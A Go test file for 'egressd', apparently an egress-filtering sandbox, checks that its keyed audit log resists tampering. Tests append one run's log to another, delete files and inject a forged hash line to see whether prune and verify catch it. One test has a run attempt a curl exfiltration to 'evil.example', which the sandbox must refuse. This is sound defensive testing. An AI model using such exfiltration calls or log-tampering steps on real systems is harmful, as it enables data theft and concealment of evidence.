package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// keyedRuns runs egressd run n times with a keyed log in the default
// per-run files (STATE/audit/ID.PID.log), checkpoints to stderr; script(i)
// is run i's program. It returns the files in run order, the key file and
// the runs' stderr joined (the checkpoint journal).
func keyedRuns(t *testing.T, e *sandboxEnv, n int, script func(i int) string) (files []string, key, journal string) {
	t.Helper()
	key = filepath.Join(t.TempDir(), "audit.key")
	os.WriteFile(key, []byte("0123456789abcdef0123456789abcdef"), 0o600)
	yaml := "audit:\n  key_file: " + key + "\n  key_id: k1\n  checkpoints: stderr\n"
	var stderr strings.Builder
	for i := 0; i < n; i++ {
		cmd := e.configured(yaml, script(i))
		for j, a := range cmd.Args { // the default per-run file
			if a == "--audit-log" {
				cmd.Args = append(cmd.Args[:j:j], cmd.Args[j+2:]...)
				break
			}
		}
		_, errs, _ := runCmd(t, cmd)
		m := regexp.MustCompile(`egressd run: audit log (\S+)`).FindStringSubmatch(errs)
		if m == nil {
			t.Fatalf("run %d names no audit log:\n%s", i+1, errs)
		}
		files = append(files, m[1])
		stderr.WriteString(errs)
	}
	journal = filepath.Join(t.TempDir(), "journal.txt")
	os.WriteFile(journal, []byte(stderr.String()), 0o600)
	return files, key, journal
}

// chainOf is the chain id a run's file begins with.
func chainOf(t *testing.T, file string) string {
	t.Helper()
	m := regexp.MustCompile(`chain=([0-9a-f]+)`).FindStringSubmatch(readLines(t, file)[0])
	if m == nil {
		t.Fatalf("%s: no chain id in its genesis", file)
	}
	return m[1]
}

// appendFile is the attacker, who has no key but can write the audit
// folder: it appends one run's file to another's.
func appendFile(t *testing.T, to string, from ...string) {
	t.Helper()
	f, err := os.OpenFile(to, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, name := range from {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(data)
	}
}

func stillThere(t *testing.T, files ...string) {
	t.Helper()
	for _, f := range files {
		if _, err := os.Stat(f); err != nil {
			t.Fatalf("prune removed %s although it refused", f)
		}
	}
}

// TestARunAppendedToTheFileOfARunBeingPrunedIsNotPrunedWithIt is issue 13
// (f13j item 1): an attacker without the key appended run 3's file (its
// refused exfiltration attempt) to run 2's; the operator pruned runs 1 and
// 2, and the receipt covered run 3 too, so once the attacker deleted run
// 3's file, verify of the receipt and run 4 said intact. A run's own file
// holds that run alone: verify reports the file appended to, naming run 3,
// prune refuses (and needs the file it keeps, which must follow the last
// run it removes), and what is left after run 3's file is deleted fails.
func TestARunAppendedToTheFileOfARunBeingPrunedIsNotPrunedWithIt(t *testing.T) {
	e := newSandboxEnv(t)
	files, key, journal := keyedRuns(t, e, 4, func(i int) string {
		if i == 2 { // run 3 tries to exfiltrate
			return `curl -sS -m 10 --cacert ca.pem ` + e.url("evil.example") + ` 2>&1; true`
		}
		return "true"
	})
	if !strings.Contains(strings.Join(readLines(t, files[2]), "\n"), `"decision":"deny","reason":"not_allowlisted","host":"evil.example"`) {
		t.Fatalf("run 3 recorded no refusal:\n%s", strings.Join(readLines(t, files[2]), "\n"))
	}
	run3 := chainOf(t, files[2])
	appendFile(t, files[1], files[2])

	if out, code := verify(t, "--key", key, files[0], files[1]); code != 1 || !strings.Contains(out, run3) {
		t.Fatalf("run 2's file with run 3 appended verifies (exit %d) or the finding does not name run 3 (%s):\n%s", code, run3, out)
	}
	receipt := filepath.Join(t.TempDir(), "receipt.log")
	out, errs, code := runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, "--keep", files[2], files[0], files[1])
	if _, err := os.Stat(receipt); code != 1 || err == nil || !strings.Contains(errs, run3) {
		t.Fatalf("prune of runs 1-2 with run 3 appended to run 2: exit %d (receipt written: %v)\n%s%s", code, err == nil, out, errs)
	}
	stillThere(t, files[0], files[1], files[2])

	// The attacker deletes run 3's own file too: the operator sees runs
	// 1, 2 and 4, and prunes 1 and 2 keeping 4.
	os.Remove(files[2])
	out, errs, code = runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, "--keep", files[3], files[0], files[1])
	if _, err := os.Stat(receipt); code != 1 || err == nil || !strings.Contains(errs, run3) {
		t.Fatalf("prune of runs 1-2 keeping run 4 once run 3's file is gone: exit %d (receipt written: %v)\n%s%s", code, err == nil, out, errs)
	}
	stillThere(t, files[0], files[1], files[3])
	if out, code := verify(t, "--key", key, "--checkpoints", journal, files[0], files[1], files[3]); code != 1 || !strings.Contains(out, run3) {
		t.Fatalf("what is left verifies (exit %d) or does not name run 3 (%s):\n%s", code, run3, out)
	}
}

// TestEveryLaterRunAppendedToTheOldestRunsFileIsNotPrunedWithIt: the
// attacker appends every later run to run 1's file and deletes theirs;
// the operator prunes "the oldest run", keeping the run after it. On main
// the receipt swallowed the whole history and the next run verified
// intact. Now prune refuses, naming run 2, and verify of what is left
// fails naming it.
func TestEveryLaterRunAppendedToTheOldestRunsFileIsNotPrunedWithIt(t *testing.T) {
	e := newSandboxEnv(t)
	files, key, journal := keyedRuns(t, e, 5, func(int) string { return "true" })
	run2 := chainOf(t, files[1])
	appendFile(t, files[0], files[1], files[2], files[3])
	for _, f := range files[1:4] {
		os.Remove(f)
	}
	receipt := filepath.Join(t.TempDir(), "receipt.log")
	out, errs, code := runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, "--keep", files[4], files[0])
	if _, err := os.Stat(receipt); code != 1 || err == nil || !strings.Contains(errs, run2) {
		t.Fatalf("prune of the oldest run's file holding every later run: exit %d (receipt written: %v)\n%s%s", code, err == nil, out, errs)
	}
	stillThere(t, files[0], files[4])
	if out, code := verify(t, "--key", key, "--checkpoints", journal, files[0], files[4]); code != 1 || !strings.Contains(out, run2) {
		t.Fatalf("what is left verifies (exit %d) or does not name run 2 (%s):\n%s", code, run2, out)
	}
}

// TestPruneRefusesWhenTheKeptRunDoesNotFollowTheLastRunRemoved: the file
// the operator keeps must begin the run right after the last one pruned;
// prune of run 1 keeping run 3 would leave run 2 covered by nothing but
// look done, and prune of run 1 "keeping" run 1 is not a sequence.
func TestPruneRefusesWhenTheKeptRunDoesNotFollowTheLastRunRemoved(t *testing.T) {
	e := newSandboxEnv(t)
	files, key, _ := keyedRuns(t, e, 3, func(int) string { return "true" })
	receipt := filepath.Join(t.TempDir(), "receipt.log")
	for _, keep := range []string{files[2], files[0]} {
		out, errs, code := runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, "--keep", keep, files[0])
		if _, err := os.Stat(receipt); code != 1 || err == nil || !strings.Contains(errs, chainOf(t, keep)) {
			t.Fatalf("prune of run 1 keeping %s: exit %d (receipt written: %v)\n%s%s", keep, code, err == nil, out, errs)
		}
		stillThere(t, files...)
	}
	if out, errs, code := runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, files[0]); code != exitUsage || !strings.Contains(errs, "--keep") {
		t.Fatalf("prune without --keep: exit %d\n%s%s", code, out, errs)
	}
}

// TestALineAppendedAfterPruneVerifiesIsNotTheReceiptsEnd is issue 13
// (f13j item 2): prune read the last file again by name after verifying
// it and took its last line's hash unchecked, so an attacker without the
// key who appended {"hash":"<run 3's last hash>"} when verify closed the
// file got a receipt vouching for run 3, whose file could then be deleted.
// The receipt's end is the hash verify checked.
func TestALineAppendedAfterPruneVerifiesIsNotTheReceiptsEnd(t *testing.T) {
	e := newSandboxEnv(t)
	files, key, _ := keyedRuns(t, e, 4, func(int) string { return "true" })
	lastHash := func(f string) string {
		lines := readLines(t, f)
		return regexp.MustCompile(`"hash":"([0-9a-f]{64})"`).FindStringSubmatch(lines[len(lines)-1])[1]
	}
	run2End, run3End := lastHash(files[1]), lastHash(files[2])
	pruneVerified = func([]string) { appendFile(t, files[1], writeTemp(t, `{"hash":"`+run3End+`"}`+"\n")) }
	defer func() { pruneVerified = func([]string) {} }()
	receipt := filepath.Join(t.TempDir(), "receipt.log")
	out, errs, code := runCLI(t, "audit", "prune", "--key", key, "--receipt", receipt, "--keep", files[2], files[0], files[1])
	if code != 0 || !strings.Contains(strings.Join(readLines(t, receipt), "\n"), "through="+run2End) {
		t.Fatalf("prune with a line appended after verify: exit %d, receipt does not end at run 2 (%s):\n%s%s%s", code, run2End, out, errs, strings.Join(readLines(t, receipt), "\n"))
	}
	os.Remove(files[2]) // the attacker deletes run 3
	if out, code := verify(t, "--key", key, receipt, files[3]); code != 1 {
		t.Fatalf("receipt and run 4 verify with run 3 deleted: exit %d\n%s", code, out)
	}
}

func writeTemp(t *testing.T, content string) string {
	f := filepath.Join(t.TempDir(), "tmp")
	os.WriteFile(f, []byte(content), 0o600)
	return f
}

// TestRunsWithTheSamePIDEachWriteAFileOfTheirOwn: egressd run names its
// file ID.PID.log, and a PID repeats (egressd run as a container's first
// process is PID 1 at every start, on the same state volume). The second
// run appended to the first's file, which now says it holds one run
// alone; each run writes a new file instead, and the two verify as a
// sequence.
func TestRunsWithTheSamePIDEachWriteAFileOfTheirOwn(t *testing.T) {
	e := newSandboxEnv(t)
	key := filepath.Join(t.TempDir(), "audit.key")
	os.WriteFile(key, []byte("0123456789abcdef0123456789abcdef"), 0o600)
	yaml := "audit:\n  key_file: " + key + "\n  key_id: k1\n"
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("unshare (util-linux) is needed to run egressd as PID 1")
		}
		t.Skip("no unshare here")
	}
	var files []string
	for i := 0; i < 2; i++ {
		cmd := e.configured(yaml, "true")
		for j, a := range cmd.Args {
			if a == "--audit-log" {
				cmd.Args = append(cmd.Args[:j:j], cmd.Args[j+2:]...)
				break
			}
		}
		// egressd is PID 1 of a new PID namespace each time, as in a container.
		pid1 := exec.Command(unshare, append([]string{"--pid", "--fork", "--mount-proc"}, cmd.Args...)...)
		pid1.Env, pid1.Dir = cmd.Env, cmd.Dir
		cmd = pid1
		_, errs, code := runCmd(t, cmd)
		m := regexp.MustCompile(`egressd run: audit log (\S+\.1(?:\.\d+)?\.log)`).FindStringSubmatch(errs)
		if code != 0 || m == nil {
			t.Fatalf("run %d as PID 1: exit %d\n%s", i+1, code, errs)
		}
		files = append(files, m[1])
	}
	if files[0] == files[1] {
		t.Fatalf("both runs wrote %s", files[0])
	}
	if out, code := verify(t, "--key", key, files[0], files[1]); code != 0 {
		t.Fatalf("two runs as PID 1: exit %d\n%s", code, out)
	}
}
